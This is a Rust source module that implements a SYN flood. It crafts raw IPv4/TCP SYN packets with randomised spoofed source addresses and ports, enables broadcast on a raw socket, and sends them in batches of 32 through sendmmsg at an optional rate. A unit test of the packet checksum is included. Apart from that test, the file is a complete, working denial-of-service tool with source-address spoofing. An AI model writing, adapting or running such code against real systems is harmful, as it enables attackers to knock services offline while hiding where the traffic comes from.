//! A flood of SYNs from addresses that are nobody's.

use std::io::{self, IoSlice};
use std::net::{Ipv4Addr, SocketAddrV4};
use std::os::fd::OwnedFd;
use std::sync::atomic::{AtomicBool, Ordering::Relaxed};
use std::thread;
use std::time::{Duration, Instant};

use fastrand::Rng;
use rustix::io::Errno;
use rustix::net::{
    AddressFamily, MMsgHdr, SendAncillaryBuffer, SendFlags, SocketFlags, SocketType, connect,
    ipproto, sendmmsg, socket_with, sockopt,
};

/// SYNs handed to the kernel in one call.
const BATCH: usize = 32;
/// Bytes of a packet: the headers of IPv4 and TCP without options.
const PACKET: usize = 40;

/// A flood of one port: all that it needs of the segment in which it was made.
#[derive(Debug)]
pub struct Flood {
    socket: OwnedFd,
    to: SocketAddrV4,
    /// Addresses are random behind these 16 bits.
    from: [u8; 2],
}

impl Flood {
    /// To be made in the client's segment.
    ///
    /// # Errors
    /// This process may not send what it likes (`CAP_NET_RAW`).
    pub fn new(from: [u8; 2], to: SocketAddrV4) -> io::Result<Self> {
        let (family, kind) = (AddressFamily::INET, SocketType::RAW);
        let socket = socket_with(family, kind, SocketFlags::CLOEXEC, Some(ipproto::RAW))?;
        // It may go to all of a network.
        sockopt::set_socket_broadcast(&socket, true)?;
        connect(&socket, &SocketAddrV4::new(*to.ip(), 0))?;
        Ok(Self { socket, to, from })
    }

    /// Sends `rate` SYNs a second, or as many as it can, until it is `over`: how many in a second.
    ///
    /// # Errors
    /// The socket's.
    pub fn run(&self, rate: Option<f64>, over: &AtomicBool) -> io::Result<f64> {
        let mut rng = Rng::with_seed(1);
        let (begin, mut sent) = (Instant::now(), 0);
        while !over.load(Relaxed) {
            if let Some(rate) = rate {
                let due = Duration::from_secs_f64(sent as f64 / rate);
                thread::sleep(due.saturating_sub(begin.elapsed()));
            }
            sent += self.send(&mut rng)?;
        }
        Ok(sent as f64 / begin.elapsed().as_secs_f64())
    }

    /// Sends a batch; how many of it the kernel took.
    fn send(&self, rng: &mut Rng) -> io::Result<u64> {
        let packets: [[u8; PACKET]; BATCH] = std::array::from_fn(|_| {
            let [a, b] = self.from;
            let from = Ipv4Addr::from([a, b, rng.u8(..), rng.u8(..)]);
            syn(
                SocketAddrV4::new(from, rng.u16(1024..)),
                self.to,
                rng.u32(..),
            )
        });
        let slices = packets.each_ref().map(|packet| [IoSlice::new(packet)]);
        let mut control: [SendAncillaryBuffer; BATCH] =
            std::array::from_fn(|_| SendAncillaryBuffer::new(&mut []));
        let mut messages: Vec<MMsgHdr> = slices
            .iter()
            .zip(&mut control)
            .map(|(slice, none)| MMsgHdr::new(slice, none))
            .collect();
        match sendmmsg(&self.socket, &mut messages, SendFlags::empty()) {
            Ok(count) => Ok(count as u64),
            // The queue is full: the frame is as lost as if it had been dropped behind it.
            Err(Errno::NOBUFS | Errno::AGAIN | Errno::INTR) => Ok(0),
            Err(error) => Err(error.into()),
        }
    }
}

/// A SYN (RFC 791, 3.1; RFC 9293, 3.1). The kernel completes the header of IPv4.
fn syn(from: SocketAddrV4, to: SocketAddrV4, number: u32) -> [u8; PACKET] {
    let mut packet = [0; PACKET];
    packet[0] = 0x45;
    packet[2..4].copy_from_slice(&(PACKET as u16).to_be_bytes());
    packet[8] = 64;
    packet[9] = 6;
    packet[12..16].copy_from_slice(&from.ip().octets());
    packet[16..20].copy_from_slice(&to.ip().octets());
    let tcp = &mut packet[20..];
    tcp[..2].copy_from_slice(&from.port().to_be_bytes());
    tcp[2..4].copy_from_slice(&to.port().to_be_bytes());
    tcp[4..8].copy_from_slice(&number.to_be_bytes());
    tcp[12] = 5 << 4;
    tcp[13] = 2;
    tcp[14..16].copy_from_slice(&u16::MAX.to_be_bytes());
    // The pseudo-header is both addresses, which lie before it, the protocol and the length.
    let words = packet[12..].chunks_exact(2);
    let sum: u32 = words
        .map(|word| u32::from(u16::from_be_bytes([word[0], word[1]])))
        .sum::<u32>()
        + 6
        + 20;
    let folded = (sum & 0xffff) + (sum >> 16);
    let checksum = !((folded & 0xffff) + (folded >> 16)) as u16;
    packet[36..38].copy_from_slice(&checksum.to_be_bytes());
    packet
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_syn_has_the_sum_that_it_must() {
        let (from, to) = ("198.18.200.7:50000", "10.0.0.2:7");
        let packet = syn(from.parse().unwrap(), to.parse().unwrap(), 0xfedc_ba98);
        let words = packet[12..].chunks_exact(2);
        let words = words.map(|word| u64::from(u16::from_be_bytes([word[0], word[1]])));
        // All words with the checksum are a multiple of 0xffff (RFC 1071).
        assert_eq!((words.sum::<u64>() + 26) % 0xffff, 0);
    }
}
